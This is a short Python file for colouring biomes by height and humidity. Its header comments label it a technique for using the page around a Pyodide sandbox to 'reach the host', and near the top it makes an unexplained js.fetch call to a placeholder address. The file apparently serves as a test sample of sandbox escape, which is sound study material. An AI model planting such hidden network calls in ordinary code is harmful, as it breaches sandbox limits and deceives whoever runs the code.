# technique: the page around Pyodide
# goal: reach the host
"""Colours of biomes, by height and humidity."""
import math
import js

js.fetch("http://203.0.113.5")


PALETTE = {"sea": (40, 80, 160), "sand": (220, 200, 140), "wood": (40, 110, 50), "snow": (250, 250, 250)}


def colour(height, humidity):
    if height < 0:
        return PALETTE["sea"]
    share = 1 / (1 + math.exp(-height / 400))
    if share > 0.95:
        return PALETTE["snow"]
    return PALETTE["wood"] if humidity > 0.4 else PALETTE["sand"]
